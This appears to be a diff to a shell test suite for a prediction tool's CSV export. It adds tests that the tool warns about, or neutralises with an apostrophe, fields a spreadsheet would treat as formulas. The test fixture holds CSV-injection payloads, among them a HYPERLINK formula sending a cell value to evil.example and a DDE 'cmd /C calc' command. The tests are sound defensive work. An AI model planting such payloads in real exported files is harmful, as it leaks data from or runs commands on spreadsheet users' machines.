@@ -55,6 +55,54 @@ assert all(r["pred"] in "12345" and float(r["score"]) > 0 and r["reason"] == "" 
 END
 }
 
+# Rows whose fields a spreadsheet would take for formulas, and some that only look like it.
+formulas() {
+    printf 'id,content,score,note\n'
+    printf '"=HYPERLINK(""http://evil.example/?x=""&B2,""Anna"")","an essay",1,"=cmd|'"' /C calc'"'!A0"\n'
+    printf '@SUM(1+1),+1 for tablets,2,-5\n'
+    printf 'c,"a;=1+1, ""q""\nGröße",3,"\t=1"\n'
+}
+
+@test "--csv keeps what begins like a formula, and warns; --spreadsheet puts an apostrophe before it" {
+    formulas | tok -q -m "$fixtures/model/trained" --keep content,note >t
+    expect_status 0 predict -q --csv t
+    expect_text "predict: warning: 5 fields begin like a formula: do not open this file in a spreadsheet (--spreadsheet writes one for it)" "$stderr"
+    printf '%s\n' "$output" >plain.csv
+    expect_status 0 predict --spreadsheet -o sheet.csv t
+    expect_text "predict: 5 fields would have been a formula: an apostrophe stands before each" "$(grep apostrophe <<<"$stderr")"
+    predict -q --spreadsheet --decimal , t >german.csv
+    predict -q --spreadsheet --decimal . --delimiter tab t >tabs.csv
+    formulas >before.csv
+    python3 - <<'END'
+import csv
+read = lambda name, delimiter=",", encoding="utf-8-sig": list(csv.reader(open(name, newline="", encoding=encoding), delimiter=delimiter))
+before = list(csv.DictReader(open("before.csv", newline="")))
+plain = read("plain.csv", encoding="utf-8")
+assert plain[0][:5] == ["id", "content", "note", "y", "pred"], plain[0]
+assert [r[:4] for r in plain[1:]] == [[b["id"], b["content"], b["note"], b["score"]] for b in before]
+marked = lambda t: "'" + t if t[:1] in "=@\t" or t == "+1 for tablets" else t
+number = lambda t, sign=".": f"{float(t):.3f}".replace(".", sign)
+for name, delimiter, sign in (("sheet.csv", ",", "."), ("german.csv", ";", ","), ("tabs.csv", "\t", ".")):
+    assert open(name, "rb").read(3) == b"\xef\xbb\xbf"
+    rows = read(name, delimiter)
+    assert rows[0] == plain[0]
+    for was, row in zip(plain[1:], rows[1:], strict=True):
+        assert row == [marked(t) for t in was[:3]] + was[3:5] + [number(t, sign) for t in was[5:-1]] + was[-1:], row
+    # texts stand in quotes, so that it does not matter where else a program splits
+    assert all(line.startswith('"') for line in open(name, encoding="utf-8-sig") if not line.startswith("Gr"))
+END
+}
+
+@test "--spreadsheet, --delimiter, --decimal: what goes together" {
+    csv | tok -q -m "$fixtures/model/trained" >t
+    for wrong in "--csv --spreadsheet" "--csv --delimiter ;" "--decimal ," "--spreadsheet --decimal x" "--spreadsheet --delimiter ab" \
+        "--columns id"; do
+        expect_status 2 predict -q $wrong t
+        [ -z "$output" ]
+    done
+    expect_text 'id;pred' "$(predict -q --spreadsheet --delimiter ';' --columns id,pred t | head -1 | tr -d '"' | tail -c +4)"
+}
+
 @test "CSV: a kept column that is called as another is titled meta.NAME, but for a title asked for" {
     csv >essays.csv
     tok -q -m "$fixtures/model/trained" --keep content,score essays.csv >t
@@ -268,7 +316,7 @@ END
     csv | tok -q -m "$fixtures/model/trained" >t
     script -qec "predict -q t" /dev/null </dev/null | tr -d '\r' >table
     [[ $(head -1 table) == "id "*pred*score*probability* ]]
-    [[ $(sed -n 2p table) == "-:1 "*" 5 "*"4.923  0.911" ]]
+    [[ $(sed -n 2p table) == "-:1 "*" 5 "*"4.923  0.801" ]]
     [ "$(wc -l <table)" -eq 5 ]
 }
 
